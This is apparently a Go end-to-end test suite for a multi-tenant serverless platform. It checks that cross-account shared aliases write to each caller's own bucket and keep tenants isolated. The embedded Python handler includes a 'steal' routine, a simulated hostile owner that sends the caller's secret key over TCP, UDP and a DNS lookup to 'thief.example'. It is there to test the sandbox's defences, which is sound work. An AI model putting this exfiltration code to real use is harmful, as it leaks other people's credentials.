package e2e

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/service/cloudwatchlogs"
	"github.com/aws/aws-sdk-go-v2/service/lambda"
	"github.com/aws/aws-sdk-go-v2/service/lambda/types"
	"github.com/aws/smithy-go"

	"github.com/hearth-faas/hearth"
	"github.com/hearth-faas/hearth/control"
)

// The acceptance scenario of cross-account aliases: B owns "archive", which
// writes to a bucket of an object server on another host by a key that is a
// parameter. A1 and A2 have aliases of it with keys of their own. The object
// server, which demands the right key, says what landed where.

// s05Source stands in B's code and nowhere else, s05Owned in B's environment.
const (
	s05Source = "b-source-5f2a9c71"
	s05Owned  = "b-environment-77e1d0"
)

const s05Code = `import json, os, socket, sys, time, urllib.request

MARK = "` + s05Source + `"

def handler(event, context):
    event = said(event)
    do = event.get("do", "put")
    if do == "raise":
        print("about to fail", MARK, os.environ["KEY"])
        raise ValueError("in " + MARK + ": " + os.environ["KEY"] + json.dumps(event))
    if do == "raise-typed":
        raise type(os.environ["KEY"].replace("-", "_"), (Exception,), {})(MARK)
    if do == "abort":
        os.abort()
    if do == "exit":
        sys.stderr.write(MARK + os.environ["KEY"])
        os._exit(3)
    if do == "slow":
        time.sleep(60)
    if do == "hog":
        return len(b"x" * (event["mib"] << 20))
    if do == "steal":
        return steal(event)
    if do == "call":
        request = urllib.request.Request("http://100.64.0.1:9070/_hearth/v1/calls?function=" + event["function"], data=b"{}", headers={"X-Hearth-Call": "1"})
        try:
            with urllib.request.urlopen(request) as answer:
                return {"status": answer.status, "said": answer.read().decode()}
        except urllib.error.HTTPError as e:
            return {"status": e.code, "said": e.read().decode()}
    if do == "look":
        return {"env": sorted(os.environ), "parameters": {k: os.environ.get(k) for k in ("BUCKET", "PREFIX", "OWNED")}}
    if do == "gate":  # it tells that it runs, and ends when it is let
        ask("PUT", os.environ["BUCKET"] + "/at-the-gate", b"")
        ask("GET", "gate", None)
    body = json.dumps(event["x"]).encode()
    ask("PUT", os.environ["BUCKET"] + "/" + os.environ["PREFIX"] + event["name"], body)
    return {"stored": event["name"], "by": context.invoked_function_arn, "memory": context.memory_limit_in_mb}

# What was said, whichever way it has come: in a queue's message, an event of a
# bus, or a request.
def said(event):
    if "Records" in event:
        return json.loads(event["Records"][0]["body"])
    return event.get("detail") or ("requestContext" in event and json.loads(event["body"])) or event

def ask(method, path, body):
    request = urllib.request.Request("http://" + os.environ["AT"] + "/" + path, data=body, method=method, headers={"Authorization": "Bearer " + os.environ["KEY"]})
    with urllib.request.urlopen(request) as answer:
        answer.read()

# What a hostile owner would try: send the caller's key wherever it can.
def steal(event):
    out = {}
    for to in event["to"]:
        host, port = to.rsplit(":", 1)
        try:
            with socket.create_connection((host, int(port)), timeout=30) as c:
                c.sendall((os.environ["KEY"] + "\n").encode())
                c.recv(8)
            out[to] = "sent"
        except OSError as e:
            out[to] = "refused"
    for to in event.get("datagrams", []):
        host, port = to.rsplit(":", 1)
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as c:
                c.settimeout(2)
                c.connect((host, int(port)))
                c.send(os.environ["KEY"].encode())
                c.recv(8)
            out["udp " + to] = "answered"
        except OSError as e:
            out["udp " + to] = "refused"
    try:
        socket.getaddrinfo(os.environ["KEY"] + ".thief.example", 80)
        out["name"] = "asked"
    except OSError as e:
        out["name"] = "refused"
    return out
`

// buckets is an object server on another host: a bucket takes objects from who
// has its key.
type buckets struct {
	at   string
	keys map[string]string // by bucket

	gate chan struct{} // closed when whoever waits is let through

	mu      sync.Mutex
	objects map[string]string // by bucket and name
	refused int
}

func newBuckets(t *testing.T, l net.Listener, at string, keys map[string]string) *buckets {
	b := &buckets{at: at, keys: keys, gate: make(chan struct{}), objects: map[string]string{}}
	server := &http.Server{Handler: b}
	go func() { _ = server.Serve(l) }() // it ends with the listener
	t.Cleanup(func() { server.Close() })
	return b
}

func (b *buckets) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if r.Method == http.MethodGet {
		select {
		case <-b.gate:
		case <-r.Context().Done():
		}
		return
	}
	bucket, name, _ := strings.Cut(strings.TrimPrefix(r.URL.Path, "/"), "/")
	body, err := io.ReadAll(r.Body)
	b.mu.Lock()
	defer b.mu.Unlock()
	if err != nil || b.keys[bucket] == "" || r.Header.Get("Authorization") != "Bearer "+b.keys[bucket] {
		b.refused++
		w.WriteHeader(http.StatusForbidden)
		return
	}
	b.objects[bucket+"/"+name] = string(body)
}

func (b *buckets) get(path string) (string, bool) {
	b.mu.Lock()
	defer b.mu.Unlock()
	v, ok := b.objects[path]
	return v, ok
}

func (b *buckets) count(bucket string) (n int) {
	b.mu.Lock()
	defer b.mu.Unlock()
	for k := range b.objects {
		if strings.HasPrefix(k, bucket+"/") {
			n++
		}
	}
	return n
}

type s05 struct {
	t         *testing.T
	server    *server
	b, a1, a2 *tenant
	outside   outside
	buckets   *buckets
	offer     string
	keys      map[*tenant]string
}

const s05Alias = "my-archive"

func newS05(t *testing.T, args ...string) *s05 {
	w := &s05{t: t, server: start(t, args...), outside: newOutside(t)}
	w.b, w.a1, w.a2 = w.server.tenant("team-b"), w.server.tenant("team-a1"), w.server.tenant("team-a2")
	w.keys = map[*tenant]string{w.a1: "key-of-a1-" + w.a1.id, w.a2: "key-of-a2-" + w.a2.id}
	w.buckets = newBuckets(t, w.outside.web, w.outside.webAt, map[string]string{"a1": w.keys[w.a1], "a2": w.keys[w.a2]})
	w.b.deploy(w.archive())
	w.offer = strings.TrimSpace(w.b.must("offer", "create", "archive", "--to", w.a1.id+","+w.a2.id,
		"--parameter", "BUCKET:required", "--parameter", "KEY:secret:required", "--parameter", "PREFIX=archive/", "--parameter", "AT:required",
		"--reaches", w.outside.webAt, "--memory", "128-512", "--timeout", "1-120", "--markup", "0.25", "--version", "$LATEST", "--version", "*"))
	w.accept(w.a1, "a1")
	w.accept(w.a2, "a2")
	return w
}

func (w *s05) archive() function {
	return function{name: "archive", runtime: "python3.12", timeout: 60, files: map[string]string{"index.py": s05Code}, env: map[string]string{"OWNED": s05Owned}}
}

func (w *s05) accept(a *tenant, bucket string, more ...string) {
	w.t.Helper()
	out, err := a.hearthWith(w.keys[a], append([]string{"shared-alias", "create", s05Alias, w.offer, "--set", "BUCKET=" + bucket, "--set", "AT=" + w.buckets.at, "--set-file", "KEY=-"}, more...)...)
	if err != nil {
		w.t.Fatal(err)
	}
	if want := "arn:aws:lambda:us-east-1:" + a.id + ":function:" + s05Alias; strings.TrimSpace(out) != want {
		w.t.Fatalf("the alias is %q, want %q", out, want)
	}
}

func put(name string, x any, more ...any) string {
	e := map[string]any{"name": name, "x": x}
	for i := 0; i < len(more); i += 2 {
		e[more[i].(string)] = more[i+1]
	}
	b, err := json.Marshal(e)
	if err != nil {
		panic(err)
	}
	return string(b)
}

// decisions are all that the account has of a kind.
func (t *tenant) decisions(kind string) []hearth.Decision {
	t.t.Helper()
	var list []hearth.Decision
	out := t.must("decisions", "--json", "--limit", "1000", "--kind", kind)
	if err := json.Unmarshal([]byte(out), &list); err != nil {
		var wrapped control.DecisionList
		if err := json.Unmarshal([]byte(out), &wrapped); err != nil {
			t.t.Fatalf("hearth decisions: %v in %.300s", err, out)
		}
		list = wrapped.Decisions
	}
	return list
}

// code is the API's word for an error.
func code(err error) string {
	var api smithy.APIError
	if errors.As(err, &api) {
		return api.ErrorCode()
	}
	return ""
}

func TestS05AliasesOfTwoAccountsWriteToTheirOwnBuckets(t *testing.T) {
	t.Parallel()
	w := newS05(t)
	const calls = 100
	var wg sync.WaitGroup
	slots := make(chan struct{}, 8)
	for i := range calls {
		wg.Add(1)
		slots <- struct{}{}
		go func() {
			defer func() { <-slots; wg.Done() }()
			a := []*tenant{w.a1, w.a2}[i%2]
			got, err := a.invoke(s05Alias, put(fmt.Sprint("object-", i), i))
			if err != nil || got.functionError != "" {
				t.Errorf("call %d: %v %s", i, err, got.payload)
				return
			}
			if !strings.Contains(got.payload, `"by": "arn:aws:lambda:us-east-1:`+a.id+":function:"+s05Alias+`"`) {
				t.Errorf("call %d ran as %s", i, got.payload)
			}
		}()
	}
	wg.Wait()
	for i := range calls {
		bucket := []string{"a1", "a2"}[i%2]
		if v, ok := w.buckets.get(fmt.Sprintf("%s/archive/object-%d", bucket, i)); !ok || v != fmt.Sprint(i) {
			t.Errorf("object %d of %s is %q, %v", i, bucket, v, ok)
		}
	}
	if n1, n2 := w.buckets.count("a1"), w.buckets.count("a2"); n1 != calls/2 || n2 != calls/2 || w.buckets.refused != 0 {
		t.Errorf("%d objects of A1, %d of A2, %d refused", n1, n2, w.buckets.refused)
	}

	// B's own run, beside them.
	if got, err := w.b.invoke("archive", `{"do":"look"}`); err != nil || got.functionError != "" {
		t.Fatalf("%v %+v", err, got)
	}
	w.owners(map[*tenant]int{w.a1: calls / 2, w.a2: calls / 2})
	w.counts(map[string]int64{w.a1.id: calls / 2, w.a2.id: calls / 2})
	figure(t, "objects in the right bucket, of 100", float64(w.buckets.count("a1")+w.buckets.count("a2")), "", true)
	t.Run("control", func(t *testing.T) { w.control(t) })
	w.compare(t)
}

// compare measures what it costs a warm call that its function is shared: by turns
// the alias, and the same code of the caller's own.
func (w *s05) compare(t *testing.T) {
	shared, own := []time.Duration{}, []time.Duration{}
	for range 60 {
		for name, took := range map[string]*[]time.Duration{s05Alias: &shared, "copy": &own} {
			began := time.Now()
			w.a1.mustInvoke(name, `{"do":"look"}`)
			*took = append(*took, time.Since(began))
		}
	}
	figure(t, "a warm call of an alias, p50, against one's own copy of the code", float64(quantile(shared, 0.5))/float64(quantile(own, 0.5)), "times", false)
}

// owners demands of the decisions that each run of an alias was in an instance of
// its caller and B alone.
func (w *s05) owners(runs map[*tenant]int) {
	w.t.Helper()
	of := map[string]string{}
	take := func(who string, ds []hearth.Decision, owner string, want int) {
		n := 0
		for _, d := range ds {
			if d.Chosen == "refuse" || d.Instance == "" || string(d.Owner) != owner {
				continue
			}
			n++
			if was, ok := of[d.Instance]; ok && was != who {
				w.t.Errorf("the instance %s ran for %s and for %s", d.Instance, was, who)
			}
			of[d.Instance] = who
		}
		if n != want {
			w.t.Errorf("%d decisions place runs for %s, want %d", n, who, want)
		}
	}
	for a, n := range runs {
		take(a.id+" by "+w.b.id, a.decisions("place"), w.b.id, n)
	}
	take(w.b.id, w.b.decisions("place"), "", 1)
}

// counts demands what the owner is told of use.
func (w *s05) counts(want map[string]int64) {
	w.t.Helper()
	var uses control.SharedUses
	if err := json.Unmarshal([]byte(w.b.must("offer", "uses", "--json")), &uses); err != nil {
		w.t.Fatal(err)
	}
	got := map[string]int64{}
	for _, u := range uses.Uses {
		got[string(u.Account)] += u.Calls
	}
	if len(got) != len(want) {
		w.t.Errorf("uses %v, want %v", got, want)
	}
	for a, n := range want {
		if got[a] != n {
			w.t.Errorf("uses %v, want %v", got, want)
		}
	}
}

// control is the same without the feature: A1 and A2 have copies of the code.
// It works as well, and they can read it.
func (w *s05) control(t *testing.T) {
	for a, bucket := range map[*tenant]string{w.a1: "a1", w.a2: "a2"} {
		f := w.archive()
		f.name, f.env = "copy", map[string]string{"BUCKET": bucket, "AT": w.buckets.at, "KEY": w.keys[a], "PREFIX": "copy/"}
		a.deploy(f)
		a.mustInvoke("copy", put("one", 1))
		if _, ok := w.buckets.get(bucket + "/copy/one"); !ok {
			t.Errorf("nothing in %s", bucket)
		}
		got, err := a.invoke("copy", `{"do":"raise"}`)
		if err != nil || !strings.Contains(got.payload, s05Source) {
			t.Errorf("the copy's error shows nothing: %v %s", err, got.payload)
		}
		out, err := a.client().GetFunction(t.Context(), &lambda.GetFunctionInput{FunctionName: ptr("copy")})
		if err != nil || out.Code == nil || out.Code.Location == nil {
			t.Errorf("the copy's code can't be had: %v", err)
		}
	}
}

// everything that an account's APIs say of something, as one text.
func (w *s05) told(a *tenant, function string) string {
	var all strings.Builder
	note := func(v any, err error) {
		b, merr := json.Marshal(v)
		fmt.Fprintln(&all, string(b), merr, err)
	}
	ctx := context.Background()
	c := a.client()
	note(c.GetFunction(ctx, &lambda.GetFunctionInput{FunctionName: &function}))
	note(c.GetFunctionConfiguration(ctx, &lambda.GetFunctionConfigurationInput{FunctionName: &function}))
	note(c.ListFunctions(ctx, &lambda.ListFunctionsInput{FunctionVersion: types.FunctionVersionAll}))
	note(c.ListVersionsByFunction(ctx, &lambda.ListVersionsByFunctionInput{FunctionName: &function}))
	note(c.ListAliases(ctx, &lambda.ListAliasesInput{FunctionName: &function}))
	note(c.GetPolicy(ctx, &lambda.GetPolicyInput{FunctionName: &function}))
	note(c.GetFunctionEventInvokeConfig(ctx, &lambda.GetFunctionEventInvokeConfigInput{FunctionName: &function}))
	note(c.ListLayers(ctx, &lambda.ListLayersInput{}))
	l := cloudwatchlogs.NewFromConfig(a.config())
	groups, err := l.DescribeLogGroups(ctx, &cloudwatchlogs.DescribeLogGroupsInput{})
	note(groups, err)
	if groups != nil {
		for _, g := range groups.LogGroups {
			note(l.FilterLogEvents(ctx, &cloudwatchlogs.FilterLogEventsInput{LogGroupName: g.LogGroupName}))
		}
	}
	for _, args := range [][]string{
		{"offer", "--json"}, {"offer", "uses", "--json"}, {"shared-alias", "--json"}, {"decisions", "--json", "--limit", "1000"}, {"ps", "--json"},
		{"parked", "--json"}, {"idempotent", "--json"}, {"logs", function}, {"ls", "--json"}, {"policy", function, "--json"}, {"runtimes", "--json"}, {"source", "--json"}, {"backfill", "--json"},
	} {
		out, err := a.hearth(args...)
		fmt.Fprintln(&all, out, err)
	}
	r, err := http.Get(a.endpoint + "/metrics")
	if err == nil {
		b, rerr := io.ReadAll(r.Body)
		r.Body.Close()
		fmt.Fprintln(&all, string(b), rerr)
	}
	return all.String()
}

// explained is what the owner is told of each run of A1's of which it knows the
// request id: its own side. A1 is told its own, and A2 nothing.
func (w *s05) explained() string {
	w.t.Helper()
	var all strings.Builder
	outcomes := map[string]bool{}
	var runs []hearth.Decision
	await(w.t, patience, "A1's runs are recorded", func() bool {
		runs = w.a1.decisions("place")
		return slices.ContainsFunc(runs, func(d hearth.Decision) bool { return d.Function == s05Alias && d.Outcome == "crash" })
	})
	for _, d := range runs {
		if d.Function != s05Alias {
			continue
		}
		story := w.b.must("explain", d.RequestID)
		var told []control.SharedRun
		if err := json.Unmarshal([]byte(w.b.must("explain", d.RequestID, "--json")), &told); err != nil || len(told) != 1 {
			w.t.Fatalf("the owner is told %+v, %v", told, err)
		}
		r := told[0]
		outcomes[r.Outcome] = true
		if r.Function != "archive" || r.Account != hearth.Account(w.a1.id) || r.Terms != "offer "+w.offer || string(r.Start) != d.Chosen || r.Outcome != d.Outcome || r.Spent["run"] != d.Spent[hearth.StageRun] || r.Version != "$LATEST" {
			w.t.Errorf("of %+v the owner is told %+v", d, r)
		}
		fmt.Fprintln(&all, story, told)
		if out, err := w.a2.hearth("explain", d.RequestID); err == nil || !strings.Contains(err.Error(), "no invocation with request id") {
			w.t.Errorf("A2 is told %s, %v", out, err)
		}
		mine := w.a1.must("explain", d.RequestID, "--json")
		if !strings.Contains(mine, s05Alias) || strings.Contains(mine, `"archive"`) || strings.Contains(mine, w.offer) {
			w.t.Errorf("A1 is told %s", mine)
		}
	}
	if !outcomes["ok"] || !outcomes["error"] || !outcomes["crash"] {
		w.t.Errorf("the owner is told of %v", outcomes)
	}
	if strings.Contains(all.String(), s05Alias) {
		w.t.Errorf("the owner is told what A1 calls it: %s", all.String())
	}
	return all.String()
}
